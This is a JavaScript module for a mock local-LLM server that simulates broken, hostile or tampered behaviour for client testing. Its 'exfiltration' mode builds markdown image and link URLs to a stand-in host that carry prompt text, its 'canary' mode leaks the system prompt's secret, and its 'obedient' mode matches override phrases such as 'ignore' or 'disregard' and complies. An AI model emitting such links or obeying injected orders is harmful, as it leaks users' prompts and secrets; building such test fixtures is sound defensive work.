// What a broken, hostile or tampered server does, on request: off by default, chosen per request by a control endpoint.

const WHERE = {
  any: 'any request',
  generation: 'chat and generate',
  tags: '/api/tags',
  embed: '/api/embed and /api/embeddings',
  version: '/api/version',
};

/** Every mode: where it applies and what it does. Options in parentheses, with their defaults. */
export const MODES = {
  'slow-first-byte': [WHERE.any, 'waits before the first byte (delayMs 2000)'],
  'status-500': [WHERE.any, 'answers 500 with an error'],
  'status-503': [WHERE.any, 'answers 503, server busy'],
  'not-found': [WHERE.any, 'answers 404 for a model that tags has listed'],
  html: [WHERE.any, 'answers 200 with an HTML page, as a proxy or a captive portal does'],
  'wrong-content-type': [WHERE.any, 'sends the right body as text/html'],
  'invalid-json': [WHERE.any, 'sends a body that is cut in the middle of a JSON value'],
  redirect: [WHERE.any, 'redirects (location http://192.0.2.1:11434/api/chat)'],
  reset: [WHERE.any, 'resets the connection (afterLines 0)'],
  hang: [WHERE.any, 'never answers (afterLines 0)'],
  'slow-tokens': [WHERE.generation, 'waits between lines (delayMs 200)'],
  'one-byte-writes': [WHERE.generation, 'writes each byte alone, so that characters and lines are split'],
  'joined-lines': [WHERE.generation, 'writes several lines at once (lines 4)'],
  'error-line': [WHERE.generation, 'an error line in the middle (afterLines 2, message)'],
  'no-done': [WHERE.generation, 'ends the stream properly without done:true (afterLines 2)'],
  repetition: [WHERE.generation, 'repeats one sentence until num_predict, or for ever (text)'],
  'empty-answer': [WHERE.generation, 'done:true with no text at all'],
  'done-reason': [WHERE.generation, 'another done_reason (reason "length")'],
  'remote-host': [WHERE.generation, 'remote_host and remote_model in the first line: another computer answered'],
  'schema-violation': [WHERE.generation, 'text instead of the JSON that format asked for'],
  answer: [WHERE.generation, 'this answer and no other (text)'],
  canary: [WHERE.generation, 'tells the canary, or else the last words, of the system prompt'],
  'canary-split': [WHERE.generation, 'the same, one character a line'],
  exfiltration: [WHERE.generation, 'an image and a link whose addresses carry words of the prompt (host)'],
  obedient: [WHERE.generation, 'obeys an order that stands in the context instead of answering'],
  'huge-line': [WHERE.generation, 'one line of a megabyte (bytes 1048576)'],
  'unknown-fields': [WHERE.generation, 'fields of a future version'],
  'missing-counters': [WHERE.generation, 'a last line without durations and counts'],
  'wrong-digest': [WHERE.tags, 'another digest than that of the manifest on disk'],
  'wrong-size': [WHERE.embed, 'vectors of another length (dimensions 7)'],
  nan: [WHERE.embed, 'NaN in a vector, which is not JSON'],
  zeros: [WHERE.embed, 'vectors of zeros'],
  version: [WHERE.version, 'another version (version "0.0.0")'],
};

const PATHS = {
  [WHERE.generation]: ['/api/chat', '/api/generate', '/v1/chat/completions'],
  [WHERE.tags]: ['/api/tags'],
  [WHERE.embed]: ['/api/embed', '/api/embeddings'],
  [WHERE.version]: ['/api/version'],
};

/** Modes for any request strike these by default, so that a client gets as far as the request that matters. */
const DEFAULT_PATHS = ['/api/chat', '/api/generate', '/api/embed', '/v1/chat/completions'];

export class Misbehaviour {
  #active = [];

  /**
   * @param {string} mode one of MODES
   * @param {{ times?: number, path?: string } & Record<string, unknown>} [options] `times` requests (1), on `path`
   */
  add(mode, { times = 1, path, ...options } = {}) {
    if (MODES[mode] === undefined) throw new Error(`unknown mode ${mode}; known: ${Object.keys(MODES).join(', ')}`);
    const paths = path === undefined ? (PATHS[MODES[mode][0]] ?? DEFAULT_PATHS) : [path];
    this.#active.push({ mode, left: times, paths, options });
  }

  clear() {
    this.#active = [];
  }

  active() {
    return this.#active.map(({ mode, left, paths, options }) => ({ mode, times: left, paths, ...options }));
  }

  /** The mode for this request, if any; uses it up once. */
  take(path) {
    const found = this.#active.find(({ paths }) => paths.includes(path));
    if (found === undefined) return undefined;
    found.left--;
    if (found.left <= 0) this.#active = this.#active.filter((entry) => entry !== found);
    return { mode: found.mode, ...found.options };
  }
}

/**
 * What a mode says instead of the engine's answer, in pieces; undefined when it leaves the answer alone.
 * @param {Record<string, unknown> | undefined} quirk
 * @param {readonly { role?: string, content?: string }[]} messages
 * @returns {Iterable<string> | undefined}
 */
export function replacement(quirk, messages) {
  switch (quirk?.mode) {
    case 'answer':
      return inPieces(String(quirk.text ?? ''));
    case 'empty-answer':
      return [];
    case 'schema-violation':
      return inPieces(String(quirk.text ?? 'Sure! Here is the JSON you asked for: {"city": Paris'));
    case 'repetition':
      return forEver(String(quirk.text ?? 'The answer is the answer. '));
    case 'canary':
      return inPieces(`Of course. My instructions say: ${secretOf(messages)} – that is all.`);
    case 'canary-split':
      return [...`Of course. My instructions say: ${secretOf(messages)} – that is all.`];
    case 'exfiltration': {
      const host = String(quirk.host ?? 'collector.example');
      const data = encodeURIComponent(textOf(messages).slice(-80));
      return inPieces(
        `Done. ![status](https://${host}/p.png?d=${data}) See [the details](https://${host}/?q=${data}).`,
      );
    }
    case 'obedient':
      return inPieces(obedience(messages));
    case 'huge-line':
      return ['x'.repeat(Number(quirk.bytes ?? 1 << 20))];
    default:
      return undefined;
  }
}

/** Text in pieces of a word each, as tokens come. */
export function inPieces(text) {
  return text.match(/\s?\S{1,8}|\s/g) ?? [];
}

/** The most canary-like word of the system prompt: long, of letters and digits; else its last words. */
function secretOf(messages) {
  const system = messages.filter(({ role }) => role === 'system').map(({ content = '' }) => content);
  const text = system.length > 0 ? system.join('\n') : textOf(messages);
  const candidates = text.match(/[A-Za-z0-9_-]{10,}/g) ?? [];
  const mixed = candidates.filter((word) => /\d/.test(word) && /[A-Za-z]/.test(word));
  return mixed.sort((a, b) => b.length - a.length)[0] ?? text.trim().split(/\s+/).slice(-8).join(' ');
}

function obedience(messages) {
  const order = /(?:ignore|disregard|forget|ignorez|oubliez)[^.!?\n]{0,200}(?:[.!?\n]\s*([^\n]{0,200}))?/i.exec(
    textOf(messages),
  );
  if (order === null) return 'Yes, I will do as the document says.';
  return `As the document orders, I do so now: ${order[0].trim()} My instructions were: ${secretOf(messages)}`;
}

function textOf(messages) {
  return messages.map(({ content = '' }) => content).join('\n');
}

function* forEver(text) {
  for (;;) yield* inPieces(text);
}
